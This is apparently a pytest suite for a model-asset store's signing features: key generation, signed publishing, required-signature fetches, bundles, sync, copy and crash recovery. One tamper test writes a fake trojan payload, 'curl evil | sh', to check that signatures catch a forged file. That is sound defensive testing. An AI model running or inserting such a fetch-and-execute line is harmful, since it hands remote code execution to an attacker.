"""Signed versions through the CLI, on every backend (conftest's ``store``): keygen,
new/update --sign-key, fetch/sync/bundle/verify --require-signature, sign, info, repair,
copy, and the fsspec protocol. Refusals are one line on stderr, exit 1, nothing installed.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import fsspec
import pytest
from typer.testing import CliRunner, Result

from modelkit_assets import AssetsManager, AssetStore, SignatureError
from modelkit_assets.cli.app import app
from modelkit_assets.integrity import hash_local
from modelkit_assets.signing import generate_key, load_signing_key

Invoke = Callable[..., Result]


@pytest.fixture
def assets_dir(tmp_path: Path) -> Path:
    return tmp_path / "assets"


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, tuple[Path, Path]]:
    folder = tmp_path / "keys"
    folder.mkdir()
    return {
        "ed25519": generate_key(folder / "publisher.pem"),
        "p256": generate_key(folder / "ci.pem", "ecdsa-p256-sha256"),
        "stranger": generate_key(folder / "stranger.pem"),
    }


@pytest.fixture
def cli(store: AssetStore, assets_dir: Path, keys: dict[str, tuple[Path, Path]]) -> Invoke:
    """The app with the store, the assets dir and the publishers' public keys trusted."""
    runner = CliRunner()
    trusted = os.pathsep.join(str(keys[k][1]) for k in ("ed25519", "p256"))

    def invoke(*args: str, env: dict[str, str] | None = None) -> Result:
        full_env = {
            "MODELKIT_ASSETS_STORE": store.url,
            "MODELKIT_ASSETS_STORAGE_OPTIONS": json.dumps(dict(store.storage_options)),
            "MODELKIT_ASSETS_DIR": str(assets_dir),
            "MODELKIT_ASSETS_TRUSTED_KEYS": trusted,
            **(env or {}),
        }
        return runner.invoke(app, list(args), env=full_env)

    return invoke


def _refused(result: Result, *fragments: str) -> None:
    """One error line on stderr naming the problem, exit 1, no traceback."""
    assert result.exit_code == 1, result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert len(errors) == 1, result.stderr
    assert "Traceback" not in result.stderr
    for fragment in fragments:
        assert fragment in errors[0], errors[0]


def _installed(assets_dir: Path, name: str) -> list[str]:
    folder = assets_dir.joinpath(*name.split("/"))
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith(".")) if folder.is_dir() else []


def _fingerprint(private: Path) -> str:
    return load_signing_key(private).fingerprint


@pytest.mark.parametrize("key_type", ["ed25519", "p256"])
def test_signed_publish_then_required_fetch(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_dir: Path, assets_dir: Path, key_type: str
) -> None:
    private, _ = keys[key_type]
    result = cli("new", str(sample_dir), "team/model", "--yes", "--sign-key", str(private))
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "team/model:0.0"
    fingerprint = _fingerprint(private)
    assert f"signed by {fingerprint}" in result.stderr

    fetched = cli("fetch", "team/model:0.0[vocab.txt]", "--require-signature")
    assert fetched.exit_code == 0, fetched.output
    assert Path(fetched.stdout.strip()).read_bytes() == (sample_dir / "vocab.txt").read_bytes()
    again = cli("fetch", "team/model:0.0", "--require-signature", "--json")  # a verified cache hit
    assert json.loads(again.stdout)["from_cache"] is True

    info = cli("info", "team/model:0.0")
    assert info.exit_code == 0 and fingerprint in info.stdout and "trusted" in info.stdout
    data = json.loads(cli("info", "team/model:0.0", "--json").stdout)
    assert [(s["key"], s["valid"], s["trusted"]) for s in data["signatures"]] == [(fingerprint, True, True)]


def test_the_configured_signing_key_signs_every_publish(
    cli: Invoke, store: AssetStore, keys: dict[str, tuple[Path, Path]], sample_file: Path
) -> None:
    """MODELKIT_ASSETS_SIGNING_KEY: the CLI and the library sign without --sign-key."""
    private, _ = keys["ed25519"]
    assert (
        cli(
            "new", str(sample_file), "m", "--yes", env={"MODELKIT_ASSETS_SIGNING_KEY": str(private)}
        ).exit_code
        == 0
    )
    assert [s.fingerprint for s in store.signatures.all("m", "0.0")] == [_fingerprint(private)]
    from modelkit_assets.settings import Settings

    settings = dataclasses.replace(Settings.from_env({}), signing_key=private)
    configured = AssetStore(store.url, store.storage_options, settings=settings)
    assert configured.update(sample_file, "m") == "0.1"
    assert [s.fingerprint for s in store.signatures.all("m", "0.1")] == [_fingerprint(private)]


def test_unsigned_and_untrusted_versions_are_refused(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_file: Path, assets_dir: Path
) -> None:
    assert cli("new", str(sample_file), "m", "--yes").exit_code == 0
    _refused(cli("fetch", "m", "--require-signature"), "m:0.0 is not signed", "nothing was installed")
    # the variable does what the flag does
    _refused(cli("fetch", "m:0.0", env={"MODELKIT_ASSETS_REQUIRE_SIGNATURE": "1"}), "not signed")
    stranger, _ = keys["stranger"]
    assert cli("update", str(sample_file), "m", "--yes", "--sign-key", str(stranger)).exit_code == 0
    _refused(cli("fetch", "m:0.1", "--require-signature"), "not in MODELKIT_ASSETS_TRUSTED_KEYS")
    assert _installed(assets_dir, "m") == []
    # without the requirement both are fetched: signing changes nothing for other consumers
    assert cli("fetch", "m:0.1").exit_code == 0


def test_a_consistent_rewrite_of_data_and_meta_is_refused(
    cli: Invoke, store: AssetStore, keys: dict[str, tuple[Path, Path]], sample_dir: Path, tmp_path: Path
) -> None:
    """The attack signing closes: whoever can write to the bucket swaps a file and writes a
    `.meta` that matches it. Hashes alone accept it; the signature does not."""
    private, _ = keys["ed25519"]
    assert cli("new", str(sample_dir), "m", "--yes", "--sign-key", str(private)).exit_code == 0
    trojan = tmp_path / "trojan.bin"
    trojan.write_bytes(b"import os; os.system('curl evil | sh')")
    meta = store.meta("m", "0.0")
    files = dict(meta.files)
    files["vocab.txt"] = hash_local(trojan)
    forged = dataclasses.replace(meta, files=files)
    store.fs.pipe_file(store.layout.data("m", "0.0", "vocab.txt"), trojan.read_bytes())
    store.fs.pipe_file(store.layout.meta("m", "0.0"), forged.to_json())
    store.fs.invalidate_cache()

    _refused(cli("fetch", "m:0.0", "--require-signature"), "does not match the version's manifest")
    assert not (tmp_path / "assets" / "m" / "0.0").exists()
    verify = cli("verify", "--remote", "m:0.0")
    assert verify.exit_code == 1 and "does not match the manifest" in verify.stdout
    # a plain fetch accepts the forgery: hashes alone cannot tell
    plain = cli("fetch", "m:0.0[vocab.txt]")
    assert plain.exit_code == 0 and Path(plain.stdout.strip()).read_bytes() == trojan.read_bytes()
    # ...and that unverified install is never served under the requirement
    _refused(cli("fetch", "m:0.0[vocab.txt]", "--require-signature"), "does not match")


def test_sign_an_existing_version(
    cli: Invoke, store: AssetStore, keys: dict[str, tuple[Path, Path]], sample_dir: Path, assets_dir: Path
) -> None:
    assert cli("new", str(sample_dir), "m", "--yes").exit_code == 0
    assert cli("fetch", "m:0.0").exit_code == 0  # installed before it was signed
    _refused(cli("fetch", "m:0.0", "--require-signature"), "not signed")
    private, _ = keys["p256"]
    signed = cli("sign", "m", "--sign-key", str(private))
    assert signed.exit_code == 0, signed.output
    assert signed.stdout.strip() == f"m:0.0 signed by {_fingerprint(private)} (ecdsa-p256-sha256)"
    assert "already signed" in cli("sign", "m:0.0", "--sign-key", str(private)).stdout
    hit = cli("fetch", "m:0.0", "--require-signature", "--json")
    assert hit.exit_code == 0 and json.loads(hit.stdout)["from_cache"] is True

    # a version whose stored objects no longer match its manifest is never signed
    assert cli("update", str(sample_dir), "m", "--yes").exit_code == 0
    store.fs.pipe_file(store.layout.data("m", "0.1", "vocab.txt"), b"altered")
    store.fs.invalidate_cache()
    _refused(cli("sign", "m:0.1", "--sign-key", str(private)), "does not match its manifest")
    assert store.signatures.all("m", "0.1") == []

    _refused(cli("sign", "m:0.0"), "needs a private key")
    _refused(cli("sign", "m:0.0", "--sign-key", str(keys["p256"][1])), "is a public key")


def test_repair_reports_unsigned_versions(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_file: Path
) -> None:
    private, _ = keys["ed25519"]
    assert cli("new", str(sample_file), "m", "--yes", "--sign-key", str(private)).exit_code == 0
    assert cli("update", str(sample_file), "m", "--yes").exit_code == 0
    report = cli("repair", "m")
    assert report.exit_code == 0, report.output
    assert "unsigned: 0.1" in report.stdout and "1 unsigned version(s)" in report.stdout
    data = json.loads(cli("repair", "m", "--json").stdout)["assets"][0]
    assert data["signed"] == ["0.0"] and data["unsigned"] == ["0.1"]
    assert cli("sign", "m:0.1", "--sign-key", str(private)).exit_code == 0
    assert "unsigned:" not in cli("repair", "m").stdout


def test_copy_carries_signatures(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_dir: Path, tmp_path: Path
) -> None:
    private, public = keys["ed25519"]
    assert cli("new", str(sample_dir), "m", "--yes", "--sign-key", str(private)).exit_code == 0
    target = (tmp_path / "prod").as_uri()
    copied = cli("copy", "m:0.0", "--to", target)
    assert copied.exit_code == 0, copied.output
    prod = AssetStore(target)
    assert [s.fingerprint for s in prod.signatures.all("m", "0.0")] == [_fingerprint(private)]
    manager = AssetsManager(prod, tmp_path / "prod-assets", require_signature=True, trusted_keys=[public])
    assert (manager.fetch("m:0.0") / "vocab.txt").read_bytes() == (sample_dir / "vocab.txt").read_bytes()


def test_bundle_and_sync_under_required_signatures(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_dir: Path, tmp_path: Path
) -> None:
    private, _ = keys["ed25519"]
    sample_file = tmp_path / "single.bin"
    sample_file.write_bytes(b"one file")
    assert cli("new", str(sample_dir), "signed", "--yes", "--sign-key", str(private)).exit_code == 0
    assert cli("new", str(sample_file), "unsigned", "--yes").exit_code == 0

    _refused(cli("bundle", "signed", "unsigned", str(tmp_path / "b0"), "--require-signature"), "not signed")
    bundle = tmp_path / "bundle"
    assert cli("bundle", "signed", str(bundle), "--require-signature").exit_code == 0
    serve = {"MODELKIT_ASSETS_STORE": "none", "MODELKIT_ASSETS_DIR": str(bundle)}
    served = cli("fetch", "signed:0.0", "--require-signature", env=serve)
    assert served.exit_code == 0 and Path(served.stdout.strip()).is_dir()
    # copied elsewhere (new inodes): checked again from the kept signature, no store needed
    moved = tmp_path / "moved"
    shutil.copytree(bundle, moved)
    again = cli(
        "fetch", "signed:0.0", "--require-signature", env={**serve, "MODELKIT_ASSETS_DIR": str(moved)}
    )
    assert again.exit_code == 0, again.output
    # a file swapped inside the copied bundle is caught by that check
    tampered = tmp_path / "tampered"
    shutil.copytree(bundle, tampered)
    victim = tampered / "signed" / "0.0" / "vocab.txt"
    victim.chmod(stat.S_IWUSR | stat.S_IRUSR)
    victim.write_text("swapped")
    _refused(
        cli(
            "fetch", "signed:0.0", "--require-signature", env={**serve, "MODELKIT_ASSETS_DIR": str(tampered)}
        ),
        "no trusted key verified it",
    )

    lock = tmp_path / "assets.lock"
    assert cli("lock", "signed", "unsigned", "-o", str(lock)).exit_code == 0
    _refused(cli("sync", str(lock), "--frozen", "--require-signature"), "unsigned:0.0", "not signed")
    assert cli("lock", "signed", "-o", str(lock)).exit_code == 0
    synced = cli("sync", str(lock), "--frozen", "--require-signature")
    assert synced.exit_code == 0, synced.output


def test_offline_serves_only_verified_installs(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_file: Path
) -> None:
    private, _ = keys["ed25519"]
    assert cli("new", str(sample_file), "m", "--yes", "--sign-key", str(private)).exit_code == 0
    assert cli("update", str(sample_file), "m", "--yes").exit_code == 0
    assert cli("fetch", "m:0.0", "--require-signature").exit_code == 0
    assert cli("fetch", "m:0.1").exit_code == 0  # installed unverified (it is unsigned)
    offline = {"MODELKIT_ASSETS_OFFLINE": "1"}
    assert cli("fetch", "m:0.0", "--require-signature", env=offline).exit_code == 0
    _refused(cli("fetch", "m:0.1", "--require-signature", env=offline), "unset MODELKIT_ASSETS_OFFLINE")


def test_configuration_errors_are_one_line(
    cli: Invoke, keys: dict[str, tuple[Path, Path]], sample_file: Path, tmp_path: Path
) -> None:
    garbage = tmp_path / "garbage.pem"
    garbage.write_text("not a key")
    _refused(
        cli("new", str(sample_file), "m", "--yes", "--sign-key", str(garbage)), "is not a PEM private key"
    )
    _refused(
        cli("new", str(sample_file), "m", "--yes", "--sign-key", str(tmp_path / "nope.pem")), "cannot be read"
    )
    assert cli("new", str(sample_file), "m", "--yes").exit_code == 0
    _refused(
        cli("fetch", "m", "--require-signature", env={"MODELKIT_ASSETS_TRUSTED_KEYS": ""}),
        "no key is trusted",
    )
    private_as_trusted = {"MODELKIT_ASSETS_TRUSTED_KEYS": str(keys["ed25519"][0])}
    _refused(cli("fetch", "m", "--require-signature", env=private_as_trusted), "holds a private key")


def test_keygen(tmp_path: Path) -> None:
    runner = CliRunner()
    target = tmp_path / "signer.pem"
    made = runner.invoke(app, ["keygen", str(target), "--type", "p256"])
    assert made.exit_code == 0, made.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    public = tmp_path / "signer.pub.pem"
    assert public.read_text().startswith("-----BEGIN PUBLIC KEY-----")
    assert load_signing_key(target).fingerprint in made.stdout
    before = target.read_bytes()
    again = runner.invoke(app, ["keygen", str(target)])
    assert again.exit_code == 1 and "never overwritten" in again.stderr
    assert target.read_bytes() == before


def test_fsspec_protocol_requires_signatures(
    store: AssetStore, keys: dict[str, tuple[Path, Path]], sample_dir: Path, tmp_path: Path
) -> None:
    private, public = keys["ed25519"]
    store.new(sample_dir, "signed", sign_key=private)
    store.new(sample_dir, "unsigned")
    options = {
        "store": store.url,
        "store_options": dict(store.storage_options),
        "assets_dir": str(tmp_path / "assets"),
        "require_signature": True,
        "trusted_keys": [str(public)],
    }
    with fsspec.open("modelkit-assets://signed:0.0/vocab.txt", "rb", **options) as f:
        assert f.read() == (sample_dir / "vocab.txt").read_bytes()
    with (
        pytest.raises(SignatureError, match="not signed"),
        fsspec.open("modelkit-assets://unsigned:0.0/vocab.txt", "rb", **options) as f,
    ):
        f.read()


def test_a_publisher_killed_between_signing_and_commit_is_resumed(
    shared_store: tuple[str, dict[str, object]],
    keys: dict[str, tuple[Path, Path]],
    sample_dir: Path,
    tmp_path: Path,
) -> None:
    """The signature is written before the commit: a publisher killed in between leaves a
    signed, uncommitted version that nothing lists; the rerun takes it over, replaces that
    signature and commits, and the version verifies."""
    store = AssetStore(*shared_store)
    private, public = keys["ed25519"]
    script = f"""
import json, os, sys
from modelkit_assets import AssetStore
from modelkit_assets.store import AssetStore as S
def die(self, meta):
    os._exit(9)  # as a SIGKILL: no cleanup
S._commit = die
store = AssetStore({store.url!r}, json.loads({json.dumps(json.dumps(dict(store.storage_options)))}))
store.new({str(sample_dir)!r}, "m", sign_key={str(private)!r})
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 9, done.stderr
    store.fs.invalidate_cache()
    assert store.signatures.signed_versions("m") == {"0.0": 1}
    assert not store.exists("m")

    (sample_dir / "vocab.txt").write_text("changed after the crash\n")
    assert store.new(sample_dir, "m", sign_key=private) == "0.0"
    manager = AssetsManager(store, tmp_path / "assets", require_signature=True, trusted_keys=[public])
    assert (manager.fetch("m:0.0") / "vocab.txt").read_text() == "changed after the crash\n"
